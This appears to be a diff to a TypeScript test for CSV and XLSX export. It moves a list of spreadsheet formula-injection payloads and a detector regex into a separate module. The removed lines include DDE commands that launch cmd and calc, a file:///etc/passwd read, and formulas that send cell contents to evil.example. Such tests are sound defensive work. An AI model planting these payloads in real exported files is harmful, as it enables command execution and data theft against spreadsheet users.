@@ -6,54 +6,9 @@ import { csvOf, harmless } from '../../src/documents/csv.ts';
 import { xlsxOf } from '../../src/documents/xlsx.ts';
 import { countyOf } from '../county.ts';
 import { text } from '../desk/office.ts';
+import { live, payloads } from './formulas.ts';
 import { twoCounties } from './two-counties.ts';
 
-/** Strings that are published as live in one spreadsheet or another. */
-const payloads = [
-  '=1+1',
-  "=cmd|' /C calc'!A0",
-  "@SUM(1+1)*cmd|' /C calc'!A0",
-  "=2+5+cmd|' /C calc'!A0",
-  "-2+3+cmd|' /C calc'!A0",
-  "+1+1+cmd|' /C calc'!A0",
-  "=10+20+cmd|' /C calc'!A0",
-  "=cmd|'/k ipconfig'!A0",
-  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
-  '=DDE("cmd";"/C calc";"!A0A0")',
-  '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: click")',
-  '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a/a10")',
-  '=IMPORTDATA("http://evil.example/")',
-  '=WEBSERVICE("http://evil.example/"&A1)',
-  '=IMAGE("http://evil.example/?v="&A1)',
-  "='file:///etc/passwd'#$passwd.A1",
-  "=AND(TRUE,cmd|'/C calc'!A0)",
-  "%0A-3+3+cmd|' /C calc'!D2",
-  '|calc',
-  '\t=1+1',
-  '\r=1+1',
-  '\n=1+1',
-  '\u0000=1+1',
-  '\u0000a',
-  '\ufeff=1+1',
-  ' =1+1',
-  '\u3000=1+1',
-  '\u00a0@SUM(1)',
-  '\uff1d1+1',
-  '\uff0b1+1',
-  '\uff0d1+1',
-  '\uff20SUM(1)',
-  '-1-1',
-  '--1',
-  '+cmd',
-  '";=1+1',
-  '",=1+1',
-  'a\r\n=1+1',
-  'a;=1+1',
-  'a\t=1+1',
-];
-/** A cell that a spreadsheet would reckon: what follows blanks begins a formula, unless it is a plain number. */
-const live = (cell: string) =>
-  /^[\s\u0000\ufeff]*[=+\-@|%\uff1d\uff0b\uff0d\uff20]/u.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell);
 const read = (csv: string, delimiter = ','): string[][] =>
   parse(csv, { bom: true, delimiter, relax_column_count: true });
 
